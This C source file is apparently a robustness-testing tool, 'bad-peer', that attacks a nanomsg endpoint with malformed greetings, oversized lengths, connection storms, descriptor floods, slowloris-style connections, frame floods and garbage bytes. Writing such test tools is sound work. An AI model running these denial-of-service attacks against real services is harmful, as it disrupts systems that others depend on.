/*
 * A peer that speaks nanomsg's protocol in order to do harm, over a unix socket or TCP:
 *
 *     bad-peer ENDPOINT ATTACK [COUNT]
 *
 *     type              after the greeting, a message of a type that there is not
 *     publisher         a greeting of another protocol, and a message
 *     oversize          messages that say they are too long: by a byte, 2^63 and 2^64 - 1
 *     storm             COUNT times: the greeting, and gone (with a RST, on TCP), now before and
 *                       now after the other side's
 *     descriptors       COUNT messages, each with 50 descriptors beside it
 *     half              COUNT connections that stay in the middle of the greeting
 *     idle              COUNT connections that say nothing more; they stay for five seconds
 *     slow              COUNT connections that send a long message, a byte now and then; as long
 *     flood             COUNT frames of the relay that belong to nobody; no answer is read
 *     garbage           COUNT connections with bytes that are random, but always the same
 *
 * Prints one line of what it has done. A connection that the other side closes is no failure; not
 * to get one at all is.
 *
 * SPDX-License-Identifier: BSD-3-Clause
 */

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/un.h>
#include <unistd.h>

#define GREETING_SIZE 8
#define DESCRIPTORS 50
#define IDLE_TIME 5000 /* ms */
#define SLOW_PACE 500  /* ms from one byte to the next */
#define CONNECTIONS_MAX 1000
#define CONNECT_LIMIT 3 /* s for one connection: a victim that is full leaves it in its queue */
#define TIME_LIMIT 40  /* s, after which a victim that takes no more connections is left alone */
#define TOO_LONG (70 * 1024 + 40 + 1)

/* A raw REQ's greeting, as the guest's. */
static const uint8_t greeting[GREETING_SIZE] = { 0, 'S', 'P', 0, 0, 0x30, 0, 0 };

static union {
	struct sockaddr any;
	struct sockaddr_un unix_;
	struct sockaddr_in four;
	struct sockaddr_in6 six;
} target;
static socklen_t target_size;
static bool over_tcp;

static void fail(const char *what)
{
	(void)fprintf(stderr, "bad-peer: %s: %s\n", what, strerror(errno));
	exit(EXIT_FAILURE);
}

/* ---- connections ---- */

static void set_tcp(const char *address)
{
	char host[64];
	const char *colon = strrchr(address, ':');
	bool six = address[0] == '[';
	in_port_t port = htons((uint16_t)strtoul(colon + 1, NULL, 10));

	(void)snprintf(host, sizeof host, "%.*s", (int)(colon - address) - (six ? 2 : 0),
		address + (six ? 1 : 0));
	over_tcp = true;
	if (six) {
		target.six = (struct sockaddr_in6){ .sin6_family = AF_INET6, .sin6_port = port };
		target_size = sizeof target.six;
		(void)inet_pton(AF_INET6, host, &target.six.sin6_addr);
	} else {
		target.four = (struct sockaddr_in){ .sin_family = AF_INET, .sin_port = port };
		target_size = sizeof target.four;
		(void)inet_pton(AF_INET, host, &target.four.sin_addr);
	}
}

static void set_target(const char *endpoint)
{
	if (strncmp(endpoint, "tcp://", 6) == 0) {
		set_tcp(endpoint + 6);
		return;
	}
	target.unix_.sun_family = AF_UNIX;
	target_size = sizeof target.unix_;
	(void)snprintf(target.unix_.sun_path, sizeof target.unix_.sun_path, "%s",
		strncmp(endpoint, "ipc://", 6) == 0 ? endpoint + 6 : endpoint);
}

/*
 * A victim that has just died comes back: for a while, that is no failure. Or -1, as when it doesn't
 * take any more.
 */
static int try_connect(void)
{
	const struct timeval limit = { .tv_sec = CONNECT_LIMIT };

	for (int tries = 0; tries < 500; tries++) {
		int fd = socket(target.any.sa_family, SOCK_STREAM | SOCK_CLOEXEC, 0);

		if (fd < 0)
			return -1;
		(void)setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &limit, sizeof limit);
		if (connect(fd, &target.any, target_size) == 0)
			return fd;
		(void)close(fd);
		if (errno == EINPROGRESS)
			return -1;
		(void)poll(NULL, 0, 10);
	}
	return -1;
}

static int connected(void)
{
	int fd = try_connect();

	if (fd < 0)
		fail("connect");
	return fd;
}

/* Returns whether the other side still takes it. */
static bool put(int fd, const void *bytes, size_t size)
{
	return send(fd, bytes, size, MSG_NOSIGNAL) == (ssize_t)size;
}

/* Both greetings are through: the other side counts us as a peer. */
static int greeted(void)
{
	uint8_t theirs[GREETING_SIZE];
	int fd = connected();

	(void)put(fd, greeting, sizeof greeting);
	(void)recv(fd, theirs, sizeof theirs, MSG_WAITALL);
	return fd;
}

/* Waits until the other side has closed, but not long. */
static void wait_closed(int fd)
{
	struct pollfd pollfd = { .fd = fd, .events = POLLIN };
	uint8_t byte;

	while (poll(&pollfd, 1, 1000) > 0 && recv(fd, &byte, 1, 0) > 0)
		continue;
	(void)close(fd);
}

/* What stands before a message: the type on a unix socket, and its length. Returns its size. */
static size_t header(uint8_t *bytes, uint8_t type, uint64_t length)
{
	size_t at = 0;

	if (!over_tcp)
		bytes[at++] = type;
	for (int shift = 56; shift >= 0; shift -= 8)
		bytes[at++] = (uint8_t)(length >> shift);
	return at;
}

/* ---- attacks ---- */

static void attack_type(unsigned long count)
{
	static const uint8_t types[] = { 0, 2, 0x7F, 0xFF };
	uint8_t bytes[16];
	int fd;

	for (unsigned long i = 0; i < count; i++) {
		fd = greeted();
		(void)put(fd, bytes, header(bytes, types[i % sizeof types], 12));
		wait_closed(fd);
	}
}

static void attack_publisher(unsigned long count)
{
	static const uint8_t protocols[] = { 0x20, 0x21, 0x10, 0x62, 0x31, 0x00, 0xFF };
	uint8_t bytes[32] = { 0, 'S', 'P', 0, 0, 0, 0, 0 };

	(void)count;
	for (size_t i = 0; i < sizeof protocols; i++) {
		int fd = connected();

		bytes[5] = protocols[i];
		(void)put(fd, bytes, GREETING_SIZE + header(&bytes[GREETING_SIZE], 1, 4) + 4);
		wait_closed(fd);
	}
}

static void attack_oversize(unsigned long count)
{
	static const uint64_t lengths[] = {
		TOO_LONG, (uint64_t)1 << 32, (uint64_t)1 << 63, UINT64_MAX, UINT64_MAX - 7,
	};
	uint8_t bytes[16];

	(void)count;
	for (size_t i = 0; i < sizeof lengths / sizeof lengths[0]; i++) {
		int fd = greeted();

		(void)put(fd, bytes, header(bytes, 1, lengths[i]));
		wait_closed(fd);
	}
}

static void attack_storm(unsigned long count)
{
	const struct linger reset = { .l_onoff = 1, .l_linger = 0 };

	for (unsigned long i = 0; i < count; i++) {
		int fd = i % 2 == 0 ? connected() : greeted();

		if (i % 2 == 0)
			(void)put(fd, greeting, sizeof greeting);
		(void)setsockopt(fd, SOL_SOCKET, SO_LINGER, &reset, sizeof reset);
		(void)close(fd);
	}
}

/* One message with as many descriptors as the kernel lets pass beside few bytes. */
static bool put_descriptors(int fd)
{
	static uint8_t body[64];
	union {
		struct cmsghdr header;
		uint8_t bytes[CMSG_SPACE(DESCRIPTORS * sizeof(int))];
	} control;
	size_t size = header(body, 1, 12) + 12;
	struct iovec iovec = { .iov_base = body, .iov_len = size };
	struct msghdr message = {
		.msg_iov = &iovec,
		.msg_iovlen = 1,
		.msg_control = &control,
		.msg_controllen = sizeof control.bytes,
	};
	int descriptors[DESCRIPTORS];

	memset(&control, 0, sizeof control);
	for (size_t i = 0; i < DESCRIPTORS; i++)
		descriptors[i] = STDERR_FILENO;
	control.header.cmsg_level = SOL_SOCKET;
	control.header.cmsg_type = SCM_RIGHTS;
	control.header.cmsg_len = CMSG_LEN(sizeof descriptors);
	memcpy(CMSG_DATA(&control.header), descriptors, sizeof descriptors);
	return sendmsg(fd, &message, MSG_NOSIGNAL) == (ssize_t)size;
}

static void attack_descriptors(unsigned long count)
{
	int fd = greeted();

	for (unsigned long i = 0; i < count; i++) {
		if (!put_descriptors(fd))
			break;
		(void)poll(NULL, 0, 1);
	}
	(void)poll(NULL, 0, 100);
	(void)close(fd);
}

static void keep(unsigned long count, bool whole)
{
	for (unsigned long i = 0; i < count; i++) {
		int fd = try_connect();

		if (fd < 0)
			break;
		(void)put(fd, greeting, whole ? sizeof greeting : 3);
	}
	(void)poll(NULL, 0, IDLE_TIME);
}

static void attack_half(unsigned long count)
{
	keep(count, false);
}

static void attack_idle(unsigned long count)
{
	keep(count, true);
}

/* Each has announced what the other side will take, and keeps it waiting for the rest. */
static void attack_slow(unsigned long count)
{
	static int fds[CONNECTIONS_MAX];
	uint8_t bytes[16] = { 0 };
	unsigned long open = 0;

	while (open < count && open < CONNECTIONS_MAX && (fds[open] = try_connect()) >= 0) {
		(void)put(fds[open], greeting, sizeof greeting);
		(void)put(fds[open], bytes, header(bytes, 1, TOO_LONG - 1));
		open++;
	}
	for (int passed = 0; passed < IDLE_TIME; passed += SLOW_PACE) {
		(void)poll(NULL, 0, SLOW_PACE);
		for (unsigned long i = 0; i < open; i++)
			(void)put(fds[i], bytes, 1);
	}
}

static void attack_flood(unsigned long count)
{
	/* A PING (9) of version 1 in a session that nobody has, behind nanomsg's own header. */
	static const uint8_t ping[] = {
		0x80, 0, 0, 1, 1, 9, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8, 1, 0, 0, 0,
		0, 0, 0, 0, 0, 0, 0, 0, 0,
	};
	uint8_t bytes[16 + sizeof ping];
	size_t size = header(bytes, 1, sizeof ping);
	int fd = greeted();

	memcpy(&bytes[size], ping, sizeof ping);
	for (unsigned long i = 0; i < count; i++) {
		if (!put(fd, bytes, size + sizeof ping))
			break;
	}
	(void)close(fd);
}

static void attack_garbage(unsigned long count)
{
	uint8_t bytes[64];
	uint32_t seed = 1;

	for (unsigned long i = 0; i < count; i++) {
		int fd = i % 2 == 0 ? connected() : greeted();

		/* The one byte that would end the attack, see "type", is right. */
		bytes[0] = 1;
		for (size_t at = 1; at < sizeof bytes; at++) {
			seed = seed * 1664525 + 1013904223;
			bytes[at] = (uint8_t)(seed >> 24);
		}
		(void)put(fd, bytes, sizeof bytes);
		(void)close(fd);
	}
}

int main(int argc, char **argv)
{
	static const struct {
		const char *name;
		void (*attack)(unsigned long count);
	} attacks[] = {
		{ "type", attack_type },
		{ "publisher", attack_publisher },
		{ "oversize", attack_oversize },
		{ "storm", attack_storm },
		{ "descriptors", attack_descriptors },
		{ "half", attack_half },
		{ "idle", attack_idle },
		{ "slow", attack_slow },
		{ "flood", attack_flood },
		{ "garbage", attack_garbage },
	};
	unsigned long count = argc > 3 ? strtoul(argv[3], NULL, 10) : 1;

	for (size_t i = 0; argc > 2 && i < sizeof attacks / sizeof attacks[0]; i++) {
		if (strcmp(argv[2], attacks[i].name) != 0)
			continue;
		set_target(argv[1]);
		(void)alarm(TIME_LIMIT);
		attacks[i].attack(count);
		(void)printf("%s: %lu done\n", attacks[i].name, count);
		return EXIT_SUCCESS;
	}
	(void)fprintf(stderr, "usage: bad-peer ENDPOINT ATTACK [COUNT]\n");
	return 64;
}
